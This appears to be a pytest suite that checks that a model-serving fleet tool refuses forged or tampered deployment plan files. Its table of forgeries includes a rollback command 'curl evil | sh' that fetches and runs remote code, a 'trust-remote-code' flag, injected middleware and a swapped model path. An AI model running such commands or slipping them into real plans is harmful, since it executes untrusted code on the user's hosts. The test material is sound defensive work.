"""Plan files are carried out as reviewed or refused, also where their id was computed anew."""

import json
from collections.abc import Callable
from copy import deepcopy
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fleet.codec import decisions, plain, plan_digest
from fleet.errors import FleetError, PlacementError, StalePlanError
from fleet.history import ApplyStarted, LedgerEvent, RolledBack, StepStarted
from fleet.plan import Plan
from fleet.spec import FleetSpec
from plans.documents.plan_file import dump, load
from plans.render.text import render
from runtime.files import read_text
from runtime.operations.change.planning import plan_fleet
from runtime.operations.change.reviewed import KEPT, PLANS, keep_plan, require_reviewed
from runtime.workspace import Workspace
from tests.attacks.conftest import call
from tests.attacks.reviewed import (
    BIRCH,
    EVIL,
    MALFORMED,
    NOTHING,
    Document,
    codes,
    made,
    resealed,
    step,
    workspace,
    workspace_of,
)
from tests.attacks.test_shown import applied
from tests.drawn import drawn
from tests.fleet.planning.test_properties import fleets, usual

__all__ = ["made", "workspace"]


def junk(document: Document, count: int) -> None:
    for number in range(count):
        steps = document["decisions"]["steps"]
        steps.append(deepcopy(steps[-1]) | {"id": f"junk {number}"})
        document["observations"]["steps"].append({"estimate_s": 0.0})


FORGERIES: dict[str, Callable[[Document], object]] = {
    "bytes of another client": lambda d: step(d, "load")["adapter"].update(digest=EVIL),
    "bytes of another client in the change too": lambda d: [
        part.update(digest=EVIL)
        for part in (*(c["after"] for c in d["decisions"]["changes"]), step(d, "load")["adapter"])
        if "digest" in part
    ],
    "no digest": lambda d: step(d, "load")["adapter"].update(digest=None),
    "another model": lambda d: step(d, "start")["server"]["flags"].update(model="/evil"),
    "code of strangers": lambda d: step(d, "start")["server"]["flags"].update(
        extra=[["trust-remote-code", ""]]
    ),
    "middleware": lambda d: step(d, "start")["server"]["flags"].update(
        extra=[["middleware", "evil.mod"]]
    ),
    "another port": lambda d: step(d, "start")["server"].update(port=22),
    "another host": lambda d: step(d, "start")["server"].update(host="evil"),
    "all traffic at once": lambda d: step(d, "set_route")["route"]["shares"][0].update(percent=99),
    "another client's route": lambda d: step(d, "set_route")["route"].update(alias="birch-faq"),
    "another salt": lambda d: step(d, "set_route")["route"].update(salt="x"),
    "another client's version": lambda d: step(d, "set_route")["route"]["shares"][0].update(
        adapter=BIRCH
    ),
    "no smoke": lambda d: d["decisions"]["steps"][-1].update(needs=[]),
    "another timeout": lambda d: d["decisions"]["steps"][0].update(timeout_s=10**9),
    "a million junk inputs": lambda d: d["decisions"]["steps"][0].update(needs=["x"] * 10_000),
    "one junk step": lambda d: junk(d, 1),
    "many junk steps": lambda d: junk(d, 3_000),
    "a change that is not shown": lambda d: [
        d[part]["changes"].pop(0) for part in ("decisions", "observations")
    ],
    "no steps": lambda d: [d[part].update(steps=[]) for part in ("decisions", "observations")],
    "a hidden warning": lambda d: d["decisions"].update(warnings=["Nothing to see here."]),
    "hidden holds": lambda d: d["decisions"].update(held=["acme-support: all is well."]),
    "a kind word": lambda d: d["decisions"]["changes"][0].update(why="Reviewed by ana."),
    "another way back": lambda d: d["decisions"]["impacts"][0].update(back_out="curl evil | sh"),
    "another tier": lambda d: d["decisions"]["impacts"][0].update(tier="free"),
    "no impacts": lambda d: [d[part].update(impacts=[]) for part in ("decisions", "observations")],
    "an invented gate": lambda d: [
        d["decisions"].update(
            gates=[{"alias": "a", "gate": "g", "metric": "m", "threshold": "t", "status": "PASS"}]
        ),
        d["observations"].update(gates=[{"detail": "", "power": ""}]),
    ],
    "another place of the declaration": lambda d: d["observations"]["changes"][0].update(
        origin="reviewed.yaml:1:1"
    ),
    "other seconds": lambda d: d["observations"]["steps"][0].update(estimate_s=0.1),
    "another count": lambda d: d["observations"].update(unchanged=999),
    "untouched clients": lambda d: d["observations"].update(untouched_clients=["acme"]),
    "another cost": lambda d: d["observations"].update(cost_after=0.01),
    "another fleet": lambda d: d["decisions"].update(fleet="another"),
}  # fmt: skip


@pytest.mark.parametrize("kept", [True, False], ids=["kept", "unknown"])
@pytest.mark.parametrize("forgery", FORGERIES)
def test_a_forged_plan_with_a_fitting_id_is_refused(
    workspace: Workspace, made: Plan, forgery: str, *, kept: bool
) -> None:
    if kept:
        keep_plan(workspace, made)
    document = json.loads(dump(made))
    FORGERIES[forgery](document)
    assert codes(workspace, resealed(document)) == {"FC3040"}
    assert not (workspace.state_dir / "ledger.jsonl").exists()


def test_a_plan_that_was_made_here_or_would_be_made_here_is_taken(
    workspace: Workspace, made: Plan, tmp_path: Path
) -> None:
    assert codes(workspace, dump(made)) == set()
    other = workspace_of(tmp_path, workspace.project.fleet())
    assert codes(other, dump(made)) == set()
    assert [path.name for path in (tmp_path / "state" / PLANS).iterdir()] == [plan_digest(made)]


LATER: dict[str, LedgerEvent] = {
    "another plan was applied": ApplyStarted("f" * 16, "f", "", "apply", 3),
    "a repair changed the route": StepStarted("f" * 16, "set route/acme-support",
                                              "route/acme-support"),
    "the route was rolled back": RolledBack("acme-support", BIRCH),
}  # fmt: skip


@pytest.mark.parametrize("since", LATER)
def test_a_plan_that_was_kept_and_is_an_older_one_is_refused(
    workspace: Workspace, made: Plan, tmp_path: Path, since: str
) -> None:
    here = workspace_of(tmp_path, workspace.project.fleet())
    keep_plan(here, made)
    assert codes(here, dump(made)) == set()
    here.ledger.open().append([LATER[since]])
    assert codes(here, dump(made)) == {"FC3041"}


@pytest.mark.parametrize(
    "since",
    [
        ApplyStarted("f" * 16, "f", "", "reconcile", 1),
        StepStarted("f" * 16, "load", "adapter/x-y-z-v1.0.0@other"),
        RolledBack("dune-faq", BIRCH),
    ],
    ids=["a repair", "a step elsewhere", "a rollback elsewhere"],
)
def test_what_happens_elsewhere_leaves_a_plan_as_it_was_reviewed(
    workspace: Workspace, made: Plan, tmp_path: Path, since: LedgerEvent
) -> None:
    here = workspace_of(tmp_path, workspace.project.fleet())
    keep_plan(here, made)
    here.ledger.open().append([since])
    assert codes(here, dump(made)) == set()


def test_a_plan_of_a_ledger_that_is_gone_is_an_older_one(
    workspace: Workspace, made: Plan, tmp_path: Path
) -> None:
    here = workspace_of(tmp_path, workspace.project.fleet())
    document = json.loads(dump(made))
    document["observations"]["ledger_seq"] = 40
    later = load(json.dumps(document))
    keep_plan(here, later)
    assert codes(here, dump(later)) == {"FC3041"}


def test_a_plan_that_was_kept_for_other_declarations_is_none_of_this_project(
    workspace: Workspace, made: Plan, tmp_path: Path
) -> None:
    keep_plan(workspace_of(tmp_path, workspace.project.fleet()), made)
    for declared in (
        replace(workspace.project.fleet(), settings={"hosts.rack1.python": "/evil"}),
        replace(workspace.project.fleet(), versions={}, adapters={}),
    ):
        assert codes(workspace_of(tmp_path, declared), dump(made)) == {"FC3040"}


def test_the_plans_that_are_remembered_are_bounded(
    workspace: Workspace, made: Plan, tmp_path: Path
) -> None:
    folder = tmp_path / "state" / PLANS
    folder.mkdir(parents=True)
    for number in range(KEPT + 20):
        (folder / f"{number:064}").touch()
    keep_plan(workspace_of(tmp_path, workspace.project.fleet()), made)
    assert sum(1 for _ in folder.iterdir()) == KEPT
    assert (folder / plan_digest(made)).exists()


def test_a_file_without_end_is_refused_before_it_is_parsed() -> None:
    with pytest.raises(FleetError, match="too large"):
        read_text(Path("/dev/zero"), 1 << 20)


@pytest.mark.parametrize(
    "text",
    ['{"decisions":' * 100_000, "[" * 1_000_000, '{"format":"fleetctl-plan"', "9" * 10_000,
     "\0", ""],
    ids=["deep maps", "deep lists", "cut off", "a long number", "nul", "empty"],
)  # fmt: skip
def test_a_file_that_is_no_plan_ends_in_an_error_for_people(
    project: Path, tmp_path: Path, text: str
) -> None:
    file = tmp_path / "plan.json"
    file.write_text(text)
    for command in (
        ("apply", str(file), "--yes"),
        ("show", str(file)),
        ("graph", "--plan", str(file)),
    ):
        done = call(project, *command)
        assert done.code == 1
        assert "FC500" in done.text
    assert not (project / ".fleetctl" / "ledger.jsonl").exists()


def leaves(value: Any) -> list[tuple[Any, Any]]:
    """Return every place of a document: the container, and the key or number inside it."""
    keys = list(value) if isinstance(value, dict) else range(len(value))
    found = [(value, key) for key in keys]
    for key in keys:
        if isinstance(value[key], dict | list):
            found += leaves(value[key])
    return found


def edit(document: Document, data: st.DataObject) -> None:
    """Change a drawn place of a plan's document."""
    section = data.draw(st.sampled_from(["decisions", "observations"]))
    places = leaves(document[section])
    container, key = places[data.draw(st.integers(0, len(places) - 1))]
    old = container[key]
    ways = ["other", "none"]
    ways += ["twice", "gone"] if isinstance(container, list) else ["gone"]
    ways += ["like"] if isinstance(old, str | int | float) else []
    match data.draw(st.sampled_from(ways)):
        case "other":
            container[key] = data.draw(st.sampled_from(["", "x", 0, 7, 0.5, True, [], {}]))
        case "none":
            container[key] = None
        case "twice":
            container.insert(key, deepcopy(old))
        case "gone":
            del container[key]
        case "like":
            container[key] = f"{old}x" if isinstance(old, str) else old + 1
        case _:
            raise AssertionError


@drawn
@usual
@given(fleets(), fleets(), st.data(), st.booleans(), st.integers(1, 3))
def test_apply_refuses_an_edited_plan_or_does_what_is_shown(
    tmp_path_factory: pytest.TempPathFactory,
    declared: FleetSpec,
    before: FleetSpec,
    data: st.DataObject,
    kept: bool,  # noqa: FBT001 (drawn)
    edits: int,
) -> None:
    workspace = workspace_of(tmp_path_factory.mktemp("drawn"), declared)
    try:
        live = data.draw(st.sampled_from([NOTHING, applied(before)[0]]))
        plan = plan_fleet(workspace, live)
    except PlacementError:
        return
    if kept:
        keep_plan(workspace, plan)
    for _ in range(8):
        document = json.loads(dump(plan))
        for _ in range(edits):
            edit(document, data)
        try:
            read = load(resealed(document))
            require_reviewed(workspace, read, live)
        except StalePlanError:
            continue
        except FleetError as error:
            malformed = {found.code for found in error.diagnostics} <= MALFORMED
            if malformed:
                continue
            raise
        assert decisions(read) == decisions(plan)
        assert plain(read) | {"ledger_seq": 0} == plain(plan) | {"ledger_seq": 0}
        assert render(read, every=True) == render(plan, every=True)
